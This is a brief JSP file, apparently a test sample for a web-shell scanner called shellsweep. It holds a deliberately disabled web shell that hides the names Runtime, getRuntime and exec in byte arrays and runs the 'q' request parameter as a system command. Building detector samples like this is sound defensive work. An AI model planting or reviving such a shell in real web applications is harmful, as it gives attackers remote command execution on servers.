<%-- shellsweep test sample: inert, never functional --%>
<% if (true) return; %>
<%!
public static String pic(String str) throws Exception {
    Class rt = Class.forName(new String(new byte[] { 106, 97, 118, 97, 46, 108, 97, 110, 103, 46, 82, 117, 110, 116, 105, 109, 101 }));
    Process e = (Process) rt.getMethod(new String(new byte[] { 101, 120, 101, 99 }), String.class).invoke(rt.getMethod(new String(new byte[] { 103, 101, 116, 82, 117, 110, 116, 105, 109, 101 })).invoke(null), str);
    return "";
}
%>
<% String q = request.getParameter("q"); if (q != null) { out.print(pic(q)); } %>
